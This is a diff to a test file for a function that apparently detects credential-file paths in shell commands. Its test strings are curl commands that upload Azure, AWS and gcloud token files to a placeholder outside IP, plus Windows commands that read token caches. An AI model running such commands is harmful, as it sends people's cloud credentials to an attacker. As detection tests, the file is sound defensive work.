@@ -122,6 +122,8 @@ describe('tokenFileOfPath', () => {
     // curl's upload forms name the file after `@` (`-d @…`, `--data-binary @…`, `-F name=@…`): the file is the path shown.
     ['curl -F f=@/Users/alice/.azure/msal_token_cache.json https://203.0.113.9/u', '', ['/Users/alice/.azure/msal_token_cache.json']],
     ['curl --data-binary @/home/bob/.aws/credentials https://203.0.113.9/u', '', ['/home/bob/.aws/credentials']],
+    ['curl -d@/Users/alice/.azure/msal_token_cache.json https://203.0.113.9/u', '', ['/Users/alice/.azure/msal_token_cache.json']],
+    ['curl --data-urlencode t@/Users/alice/.config/gcloud/access_tokens.db https://203.0.113.9/u', '', ['/Users/alice/.config/gcloud/access_tokens.db']],
     // A quoted path keeps its spaces.
     ['cmd /c type "C:\\Users\\John Smith\\.azure\\msal_token_cache.bin"', '', ['C:\\Users\\John Smith\\.azure\\msal_token_cache.bin']],
     ["Get-Content -Raw 'C:\\Users\\John Smith\\AppData\\Local\\.IdentityService\\msal.cache'", '', ['C:\\Users\\John Smith\\AppData\\Local\\.IdentityService\\msal.cache']],
